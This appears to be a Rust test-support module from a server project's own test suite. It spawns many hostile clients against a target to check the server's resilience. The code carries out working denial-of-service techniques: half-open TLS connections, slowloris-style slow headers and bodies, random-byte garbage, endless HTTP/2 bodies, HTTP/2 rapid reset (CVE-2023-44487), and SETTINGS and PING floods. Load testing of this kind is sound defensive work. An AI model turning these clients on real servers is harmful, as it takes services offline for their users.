//! Hostile clients without certificate or token, as any peer that reaches the port can be.

use std::{
    io, iter,
    net::SocketAddr,
    sync::{Arc, OnceLock},
    time::Duration,
};

use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWriteExt, WriteHalf, copy, sink, split},
    net::TcpStream,
    runtime::Runtime,
    task::JoinSet,
    time::sleep,
};
use tokio_rustls::client::TlsStream;
use tokio_util::task::AbortOnDropHandle;

use super::api::tls;

/// A separate thread, so that the regular clients of this process do not wait behind thousands of attackers.
fn runtime() -> &'static Runtime {
    static RUNTIME: OnceLock<Runtime> = OnceLock::new();
    RUNTIME.get_or_init(|| {
        tokio::runtime::Builder::new_multi_thread()
            .enable_all()
            .worker_threads(1)
            .build()
            .unwrap()
    })
}

/// Clients that repeat their attack until this is dropped.
pub(crate) struct Attack(JoinSet<()>);

/// The target of the attack.
#[derive(Clone)]
pub(crate) struct Target {
    pub(crate) address: SocketAddr,
    pub(crate) certificate_authority: Arc<str>,
}

/// Pause between two attempts of one client, which leaves CPU time to the regular clients.
const PAUSE: Duration = Duration::from_millis(100);

impl Attack {
    /// Starts this many clients; each repeats its turn as soon as it ends, successfully or not.
    pub(crate) fn by<T, F>(clients: usize, target: &Target, turn: T) -> Self
    where
        T: Fn(Target, usize) -> F + Clone + Send + Sync + 'static,
        F: Future<Output = io::Result<()>> + Send,
    {
        let _runtime = runtime().enter();
        let mut attack = JoinSet::new();
        for number in 0..clients {
            let (turn, target) = (turn.clone(), target.clone());
            attack.spawn(async move {
                loop {
                    // The server decides how a turn ends.
                    let _ = turn(target.clone(), number).await;
                    sleep(PAUSE).await;
                }
            });
        }
        Self(attack)
    }

    /// Returns the number of clients.
    pub(crate) fn clients(&self) -> usize {
        self.0.len()
    }

    /// Returns true if no client has ended, as one does that panics.
    pub(crate) fn is_running(&mut self) -> bool {
        self.0.try_join_next().is_none()
    }
}

impl Target {
    pub(crate) async fn tls(&self, protocol: &str) -> io::Result<TlsStream<TcpStream>> {
        tls(self.address, &self.certificate_authority, &[protocol])
            .await
            .map_err(io::Error::other)
    }
}

/// Connects and sends nothing, or a part of a `ClientHello`.
pub(crate) async fn half_open(target: Target, number: usize) -> io::Result<()> {
    let mut stream = TcpStream::connect(target.address).await?;
    if number.is_multiple_of(2) {
        // A record of 512 bytes, of which five are sent.
        stream
            .write_all(&[0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03])
            .await?;
    }
    until_closed(stream).await
}

/// Sends the `ClientHello` of a client that only supports TLS 1.1.
pub(crate) async fn tls_1_1(target: Target, _: usize) -> io::Result<()> {
    let mut stream = TcpStream::connect(target.address).await?;
    stream.write_all(&CLIENT_HELLO_OF_TLS_1_1).await?;
    until_closed(stream).await
}

/// Version 3.2, one cipher suite (`TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA`), no extensions.
pub(crate) const CLIENT_HELLO_OF_TLS_1_1: [u8; 50] = {
    let mut hello = [7; 50];
    let head = [0x16, 3, 1, 0, 45, 1, 0, 0, 41, 3, 2];
    let tail = [0, 0, 2, 0xc0, 0x09, 1, 0];
    let mut at = 0;
    while at < head.len() {
        hello[at] = head[at];
        at += 1;
    }
    at = 0;
    while at < tail.len() {
        hello[43 + at] = tail[at];
        at += 1;
    }
    hello
};

/// Sends random bytes, in plain text or within TLS.
pub(crate) async fn garbage(target: Target, number: usize) -> io::Result<()> {
    let mut random = fastrand::Rng::with_seed(number as u64);
    let noise: Vec<u8> = iter::repeat_with(|| random.u8(..)).take(4096).collect();
    match number % 3 {
        0 => {
            let mut stream = TcpStream::connect(target.address).await?;
            stream.write_all(&noise).await?;
            until_closed(stream).await
        }
        turn => {
            let mut stream = target.tls(if turn == 1 { "h2" } else { "http/1.1" }).await?;
            stream.write_all(&noise).await?;
            until_closed(stream).await
        }
    }
}

/// Sends a header that grows slowly and never ends.
pub(crate) async fn slow_headers(target: Target, _: usize) -> io::Result<()> {
    let mut stream = target.tls("http/1.1").await?;
    stream
        .write_all(b"POST /validate HTTP/1.1\r\nhost: cassgate\r\nx: ")
        .await?;
    loop {
        stream.write_all(&[b'x'; 16 * 1024]).await?;
        stream.flush().await?;
        sleep(PAUSE).await;
    }
}

/// Announces a body and sends it byte by byte, after a first part of this length.
pub(crate) async fn slow_body(target: Target, announced: usize, first: usize) -> io::Result<()> {
    let mut stream = target.tls("http/1.1").await?;
    let head = format!("POST /validate HTTP/1.1\r\nhost: cassgate\r\ncontent-length: {announced}\r\n\r\n");
    stream.write_all(head.as_bytes()).await?;
    let part = vec![b' '; 64 * 1024];
    for _ in 0..first / part.len() {
        stream.write_all(&part).await?;
    }
    loop {
        stream.write_all(b" ").await?;
        stream.flush().await?;
        sleep(PAUSE).await;
    }
}

/// Sends endless bodies on every stream of an HTTP/2 connection.
pub(crate) async fn streams_of_bodies(target: Target, _: usize) -> io::Result<()> {
    let (reading, mut stream) = http2(&target).await?;
    for number in 0..100 {
        stream.write_all(&request(number)).await?;
    }
    let part = frame(DATA, 0, 0, &[b' '; 16 * 1024]);
    loop {
        for number in 0..100 {
            let mut part = part.clone();
            part[5..9].copy_from_slice(&stream_id(number));
            stream.write_all(&part).await?;
        }
        if reading.is_finished() {
            return Ok(());
        }
        sleep(PAUSE).await;
    }
}

/// Opens streams and resets them at once (CVE-2023-44487).
pub(crate) async fn rapid_reset(target: Target, _: usize) -> io::Result<()> {
    let (reading, mut stream) = http2(&target).await?;
    for round in 0.. {
        let mut burst = Vec::new();
        for number in round * 100..(round + 1) * 100 {
            burst.extend(request(number));
            let mut reset = frame(RST_STREAM, 0, 0, &8_u32.to_be_bytes());
            reset[5..9].copy_from_slice(&stream_id(number));
            burst.extend(reset);
        }
        stream.write_all(&burst).await?;
        if reading.is_finished() {
            return Ok(());
        }
        sleep(PAUSE / 10).await;
    }
    Ok(())
}

/// Sends endless SETTINGS frames, each of which requires an acknowledgement.
pub(crate) async fn settings_flood(target: Target, _: usize) -> io::Result<()> {
    flood(&target, &frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).await
}

/// Sends endless PING frames, each of which requires an answer.
pub(crate) async fn ping_flood(target: Target, _: usize) -> io::Result<()> {
    flood(&target, &frame(PING, 0, 0, &[0; 8])).await
}

async fn flood(target: &Target, frame: &[u8]) -> io::Result<()> {
    let (reading, mut stream) = http2(target).await?;
    let burst = frame.repeat(500);
    loop {
        stream.write_all(&burst).await?;
        if reading.is_finished() {
            return Ok(());
        }
        sleep(PAUSE / 10).await;
    }
}

/// Opens a connection, sends the preface, and starts a task that reads all answers.
async fn http2(target: &Target) -> io::Result<(AbortOnDropHandle<()>, WriteHalf<TlsStream<TcpStream>>)> {
    let (mut reading, mut writing) = split(target.tls("h2").await?);
    writing.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    writing.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    let read = tokio::spawn(async move { drop(copy(&mut reading, &mut sink()).await) });
    Ok((AbortOnDropHandle::new(read), writing))
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Client streams have odd numbers.
fn stream_id(number: u32) -> [u8; 4] {
    (2 * number + 1).to_be_bytes()
}

/// Returns the head of `POST /validate`; the body follows.
fn request(number: u32) -> Vec<u8> {
    // RFC 7541: `:method POST` and `:scheme https` from the static table, then two names from it with literal values.
    let mut block = vec![0x83, 0x87];
    for (name, value) in [(4, "/validate"), (1, "cassgate")] {
        block.extend([name, u8::try_from(value.len()).unwrap()]);
        block.extend(value.bytes());
    }
    let mut request = frame(HEADERS, END_HEADERS, 0, &block);
    request[5..9].copy_from_slice(&stream_id(number));
    request
}

async fn until_closed(mut stream: impl AsyncRead + Unpin) -> io::Result<()> {
    let mut output = [0; 1024];
    while stream.read(&mut output).await? > 0 {}
    Ok(())
}
